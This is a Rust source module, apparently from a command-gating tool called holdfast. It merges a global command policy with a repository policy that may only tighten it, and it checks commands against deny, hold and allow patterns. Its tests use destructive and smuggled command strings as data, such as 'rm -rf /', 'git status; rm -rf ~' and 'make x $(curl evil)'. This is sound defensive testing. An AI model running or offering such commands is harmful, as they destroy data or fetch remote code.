//! The effective policy: the global policy with a repository policy applied on top, tighten-only.
//!
//! What a repository policy (`.holdfast.toml`) may do, and what it may not:
//!
//! | setting | takes effect when | otherwise |
//! |---|---|---|
//! | `[[deny]]` | always (adds deny patterns) | — |
//! | `[[hold]]` | always (raises matching commands to at least ambiguous) | — |
//! | `mode` | it is at least as strict as the global mode (`notify` < `attended` < `unattended`); never `notify` | ignored, reported |
//! | `fail_closed` | `true` | `false` over a global `true` is ignored, reported |
//! | `hold_expiry_secs` | it is not longer than the global value (a shorter wait means an unanswered hold becomes a deny sooner) | ignored, reported |
//! | `[[allow]]` | never: an allow always loosens | each entry ignored, reported |
//! | `[daemon]` | never: daemon-wide settings are global | ignored, reported |
//!
//! Reports are sentences like `repo policy /x/.holdfast.toml line 3: mode = "notify" ignored:
//! only the global policy may choose notify`; the verdict carries the flag
//! `repo_loosening_ignored` and the audit record the sentences.

use std::collections::HashMap;
use std::path::{Path, PathBuf};

use super::file::{DEFAULT_HOLD_EXPIRY_SECS, DaemonSettings, Mode, PolicyError, PolicyFile, RuleEntry, Setting};
use super::pattern::{MatchKind, has_shell_operators, normalize};

/// Rules of one kind, indexed: exact patterns by text, the rest scanned in file order.
#[derive(Debug, Clone, Default)]
struct RuleSet {
    rules: Vec<RuleEntry>,
    exact: HashMap<String, usize>,
    scan: Vec<usize>,
}

impl RuleSet {
    fn new(rules: Vec<RuleEntry>) -> RuleSet {
        let mut exact = HashMap::new();
        let mut scan = Vec::new();
        for (i, r) in rules.iter().enumerate() {
            if r.pattern.kind() == MatchKind::Exact {
                exact.entry(r.pattern.text().to_string()).or_insert(i);
            } else {
                scan.push(i);
            }
        }
        RuleSet { rules, exact, scan }
    }

    /// The first rule in file order matching the normalized line; with `exact_only`, only exact rules.
    fn first_match(&self, normalized: &str, exact_only: bool) -> Option<&RuleEntry> {
        let exact = self.exact.get(normalized).copied();
        let scanned = if exact_only {
            None
        } else {
            self.scan
                .iter()
                .copied()
                .take_while(|&i| exact.is_none_or(|e| i < e))
                .find(|&i| self.rules[i].pattern.matches_normalized(normalized))
        };
        scanned.or(exact).map(|i| &self.rules[i])
    }

    fn len(&self) -> usize {
        self.rules.len()
    }
}

/// The global policy, compiled. Built-in defaults when there is no global file.
#[derive(Debug, Clone)]
pub struct Policy {
    /// The file it was read from, if any.
    pub path: Option<PathBuf>,
    /// The mode (`attended` when unset).
    pub mode: Mode,
    /// How long a held command waits before it expires.
    pub hold_expiry_secs: u64,
    /// Whether daemon-less hooks deny everything.
    pub fail_closed: bool,
    /// The `[daemon]` settings.
    pub daemon: DaemonSettings,
    /// What to run when a command is held.
    pub notify: Option<super::file::NotifySettings>,
    /// Audit log segments, retention and compression.
    pub audit: crate::audit::SegmentPolicy,
    deny: RuleSet,
    hold: RuleSet,
    allow: RuleSet,
}

impl Default for Policy {
    fn default() -> Self {
        Policy {
            path: None,
            mode: Mode::Attended,
            hold_expiry_secs: DEFAULT_HOLD_EXPIRY_SECS,
            fail_closed: false,
            daemon: DaemonSettings::default(),
            notify: None,
            audit: crate::audit::SegmentPolicy::default(),
            deny: RuleSet::default(),
            hold: RuleSet::default(),
            allow: RuleSet::default(),
        }
    }
}

impl Policy {
    /// Compiles a global policy file; absent settings take their defaults.
    pub fn from_file(file: PolicyFile) -> Policy {
        let d = Policy::default();
        Policy {
            path: Some(file.path),
            mode: file.mode.map_or(d.mode, |s| s.value),
            hold_expiry_secs: file.hold_expiry_secs.map_or(d.hold_expiry_secs, |s| s.value),
            fail_closed: file.fail_closed.map_or(d.fail_closed, |s| s.value),
            daemon: file.daemon.map_or(d.daemon, |s| s.value),
            notify: file.notify.map(|s| s.value),
            audit: file.audit.map_or(d.audit, |s| s.value),
            deny: RuleSet::new(file.deny),
            hold: RuleSet::new(file.hold),
            allow: RuleSet::new(file.allow),
        }
    }

    /// Loads the global policy from `path`; a missing file means the built-in defaults.
    pub fn load(path: &Path) -> Result<Policy, PolicyError> {
        Ok(PolicyFile::load_optional(path)?.map(Policy::from_file).unwrap_or_default())
    }

    /// Number of (allow, deny, hold) patterns.
    pub fn pattern_counts(&self) -> (usize, usize, usize) {
        (self.allow.len(), self.deny.len(), self.hold.len())
    }
}

/// A repository policy, compiled: only what it may contribute, plus reports of what it may not.
#[derive(Debug, Clone)]
pub struct RepoPolicy {
    /// Where the file was read from.
    pub path: PathBuf,
    mode: Option<Setting<Mode>>,
    hold_expiry_secs: Option<Setting<u64>>,
    fail_closed: Option<Setting<bool>>,
    deny: RuleSet,
    hold: RuleSet,
    /// Loosening attempts that do not depend on the global policy (`[[allow]]`, `[daemon]`).
    ignored: Vec<String>,
}

fn report(origin: &super::file::Origin, what: &str, why: &str) -> String {
    format!("repo policy {origin}: {what} ignored: {why}")
}

impl RepoPolicy {
    /// Compiles a repository policy file.
    pub fn from_file(file: PolicyFile) -> RepoPolicy {
        let mut ignored = Vec::new();
        for a in &file.allow {
            ignored.push(report(
                &a.origin,
                &format!("[[allow]] pattern \"{}\"", a.pattern.text()),
                "a repository policy cannot allow commands; only the global policy may",
            ));
        }
        if let Some(d) = &file.daemon {
            ignored.push(report(&d.origin, "[daemon]", "only the global policy configures the daemon"));
        }
        if let Some(a) = &file.audit {
            ignored.push(report(&a.origin, "[audit]", "only the global policy configures the audit log"));
        }
        // A repository is written by whoever wrote the code: it never chooses what the daemon runs.
        if let Some(n) = &file.notify {
            ignored.push(report(&n.origin, "[notify]", "only the global policy chooses a program to run"));
        }
        RepoPolicy {
            path: file.path,
            mode: file.mode,
            hold_expiry_secs: file.hold_expiry_secs,
            fail_closed: file.fail_closed,
            deny: RuleSet::new(file.deny),
            hold: RuleSet::new(file.hold),
            ignored,
        }
    }

    /// Loads and compiles the repository policy at `path`.
    pub fn load(path: &Path) -> Result<RepoPolicy, PolicyError> {
        PolicyFile::load(path).map(RepoPolicy::from_file)
    }
}

/// What the policy says about one command line, strongest first: deny > hold > allow.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PolicyMatch<'a> {
    /// No pattern matched.
    None,
    /// A global `[[allow]]` pattern matched.
    Allow(&'a RuleEntry),
    /// A `[[hold]]` pattern matched.
    Hold(&'a RuleEntry),
    /// A `[[deny]]` pattern matched.
    Deny(&'a RuleEntry),
    /// The repository policy cannot be read or parsed (the error sentence): fail closed.
    Broken(String),
}

/// The global policy with a repository policy applied on top.
#[derive(Debug, Clone)]
pub struct Effective<'a> {
    global: &'a Policy,
    repo: Option<&'a RepoPolicy>,
    /// The effective mode (the stricter of global and repository).
    pub mode: Mode,
    /// The effective hold expiry (the shorter).
    pub hold_expiry_secs: u64,
    /// The effective fail-closed switch (either one).
    pub fail_closed: bool,
    /// Loosening attempts of the repository policy that were ignored, as sentences.
    pub ignored: Vec<String>,
}

impl<'a> Effective<'a> {
    /// Merges, tighten-only (see the module docs).
    pub fn new(global: &'a Policy, repo: Option<&'a RepoPolicy>) -> Effective<'a> {
        let mut e = Effective {
            global,
            repo,
            mode: global.mode,
            hold_expiry_secs: global.hold_expiry_secs,
            fail_closed: global.fail_closed,
            ignored: Vec::new(),
        };
        let Some(r) = repo else { return e };
        e.ignored.extend(r.ignored.iter().cloned());
        if let Some(m) = &r.mode {
            let what = format!("mode = \"{}\"", m.value.as_str());
            if m.value == Mode::Notify {
                e.ignored.push(report(&m.origin, &what, "only the global policy may choose notify"));
            } else if m.value < global.mode {
                let why = format!("the global mode \"{}\" is stricter", global.mode.as_str());
                e.ignored.push(report(&m.origin, &what, &why));
            } else {
                e.mode = m.value;
            }
        }
        if let Some(f) = &r.fail_closed {
            if f.value {
                e.fail_closed = true;
            } else if global.fail_closed {
                e.ignored.push(report(
                    &f.origin,
                    "fail_closed = false",
                    "a repository policy cannot turn off the global fail_closed = true",
                ));
            }
        }
        if let Some(h) = &r.hold_expiry_secs {
            if h.value <= global.hold_expiry_secs {
                e.hold_expiry_secs = h.value;
            } else {
                let why = format!(
                    "a repository policy may only shorten the global hold_expiry_secs = {}",
                    global.hold_expiry_secs
                );
                e.ignored.push(report(&h.origin, &format!("hold_expiry_secs = {}", h.value), &why));
            }
        }
        e
    }

    /// Matches the command line `raw` against the patterns: a deny (global or repository) wins,
    /// then a hold (global or repository), then a global allow. Allow patterns other than `exact`
    /// never match a line with shell operators (see `has_shell_operators`).
    pub fn check(&self, raw: &str) -> PolicyMatch<'a> {
        let line = normalize(raw);
        let repo = self.repo;
        if let Some(r) = self.global.deny.first_match(&line, false).or_else(|| repo?.deny.first_match(&line, false)) {
            return PolicyMatch::Deny(r);
        }
        if let Some(r) = self.global.hold.first_match(&line, false).or_else(|| repo?.hold.first_match(&line, false)) {
            return PolicyMatch::Hold(r);
        }
        // Security: a prefix/glob allow must not launder a chained or substituted command.
        if let Some(r) = self.global.allow.first_match(&line, has_shell_operators(raw)) {
            return PolicyMatch::Allow(r);
        }
        PolicyMatch::None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn file(path: &str, text: &str) -> PolicyFile {
        PolicyFile::parse(Path::new(path), text).unwrap()
    }

    fn global(text: &str) -> Policy {
        Policy::from_file(file("/etc/policy.toml", text))
    }

    fn repo(text: &str) -> RepoPolicy {
        RepoPolicy::from_file(file("/x/.holdfast.toml", text))
    }

    #[test]
    fn defaults_without_files() {
        let g = Policy::default();
        let e = Effective::new(&g, None);
        assert_eq!((e.mode, e.hold_expiry_secs, e.fail_closed), (Mode::Attended, 600, false));
        assert!(e.ignored.is_empty());
        assert_eq!(e.check("rm -rf /"), PolicyMatch::None);
    }

    #[test]
    fn repo_may_tighten_mode_expiry_and_fail_closed() {
        let g = global("");
        let r = repo("mode = \"unattended\"\nhold_expiry_secs = 60\nfail_closed = true\n");
        let e = Effective::new(&g, Some(&r));
        assert_eq!((e.mode, e.hold_expiry_secs, e.fail_closed), (Mode::Unattended, 60, true));
        assert!(e.ignored.is_empty(), "{:?}", e.ignored);
        // From notify, attended is tighter.
        let g = global("mode = \"notify\"");
        let r = repo("mode = \"attended\"");
        let e = Effective::new(&g, Some(&r));
        assert_eq!(e.mode, Mode::Attended);
    }

    #[test]
    fn repo_loosening_is_ignored_and_reported() {
        let g = global("mode = \"unattended\"\nhold_expiry_secs = 300\nfail_closed = true\n");
        let r = repo(
            "mode = \"attended\"\nhold_expiry_secs = 900\nfail_closed = false\n[[allow]]\npattern = \"rm -rf /\"\n[daemon]\ndurability = \"batch\"\n",
        );
        let e = Effective::new(&g, Some(&r));
        assert_eq!((e.mode, e.hold_expiry_secs, e.fail_closed), (Mode::Unattended, 300, true));
        let all = e.ignored.join("\n");
        assert_eq!(e.ignored.len(), 5, "{all}");
        assert!(all.contains("repo policy /x/.holdfast.toml line 1: mode = \"attended\" ignored"), "{all}");
        assert!(all.contains("line 2: hold_expiry_secs = 900 ignored"), "{all}");
        assert!(all.contains("line 3: fail_closed = false ignored"), "{all}");
        assert!(all.contains("line 4: [[allow]] pattern \"rm -rf /\" ignored"), "{all}");
        assert!(all.contains("line 6: [daemon] ignored"), "{all}");
        assert_eq!(e.check("rm -rf /"), PolicyMatch::None);
    }

    #[test]
    fn repo_cannot_choose_notify() {
        let g = global("mode = \"notify\"");
        let r = repo("\n\nmode = \"notify\"");
        let e = Effective::new(&g, Some(&r));
        assert_eq!(e.mode, Mode::Notify); // the global choice stands; the repo's is still reported
        assert_eq!(
            e.ignored,
            vec![
                "repo policy /x/.holdfast.toml line 3: mode = \"notify\" ignored: only the global policy may choose notify"
                    .to_string()
            ]
        );
    }

    #[test]
    fn repo_fail_closed_false_without_global_true_is_silent() {
        let g = global("");
        let r = repo("fail_closed = false");
        let e = Effective::new(&g, Some(&r));
        assert!(!e.fail_closed && e.ignored.is_empty());
    }

    #[test]
    fn deny_beats_hold_beats_allow() {
        let g = global(
            "[[allow]]\npattern = \"git push\"\nmatch = \"prefix\"\n[[hold]]\npattern = \"git push origin *\"\nmatch = \"glob\"\n",
        );
        let r = repo("[[deny]]\npattern = \"git push origin main\"\nreason = \"CI only\"\n");
        let e = Effective::new(&g, Some(&r));
        assert!(
            matches!(e.check("git push  origin main"), PolicyMatch::Deny(r) if r.reason.as_deref() == Some("CI only"))
        );
        assert!(matches!(e.check("git push origin dev"), PolicyMatch::Hold(_)));
        assert!(matches!(e.check("git push"), PolicyMatch::Allow(_)));
        assert_eq!(e.check("git pushx"), PolicyMatch::None);
    }

    #[test]
    fn allow_prefix_and_glob_skip_chained_lines_but_exact_does_not() {
        let g = global(
            "[[allow]]\npattern = \"git status\"\nmatch = \"prefix\"\n[[allow]]\npattern = \"make *\"\nmatch = \"glob\"\n[[allow]]\npattern = \"a && b\"\n",
        );
        let e = Effective::new(&g, None);
        assert!(matches!(e.check("git status --short"), PolicyMatch::Allow(_)));
        assert_eq!(e.check("git status; rm -rf ~"), PolicyMatch::None);
        assert_eq!(e.check("git status\nrm -rf ~"), PolicyMatch::None);
        assert_eq!(e.check("make x $(curl evil)"), PolicyMatch::None);
        assert!(matches!(e.check("make build"), PolicyMatch::Allow(_)));
        assert!(matches!(e.check("a  &&  b"), PolicyMatch::Allow(_)));
    }

    #[test]
    fn first_match_is_in_file_order_across_exact_and_scanned() {
        let g = global(
            "[[deny]]\npattern = \"rm\"\nmatch = \"prefix\"\nreason = \"one\"\n[[deny]]\npattern = \"rm x\"\nreason = \"two\"\n",
        );
        let e = Effective::new(&g, None);
        assert!(matches!(e.check("rm x"), PolicyMatch::Deny(r) if r.reason.as_deref() == Some("one")));
        let g = global(
            "[[deny]]\npattern = \"rm x\"\nreason = \"one\"\n[[deny]]\npattern = \"rm\"\nmatch = \"prefix\"\nreason = \"two\"\n",
        );
        let e = Effective::new(&g, None);
        assert!(matches!(e.check("rm x"), PolicyMatch::Deny(r) if r.reason.as_deref() == Some("one")));
        assert!(matches!(e.check("rm y"), PolicyMatch::Deny(r) if r.reason.as_deref() == Some("two")));
    }
}
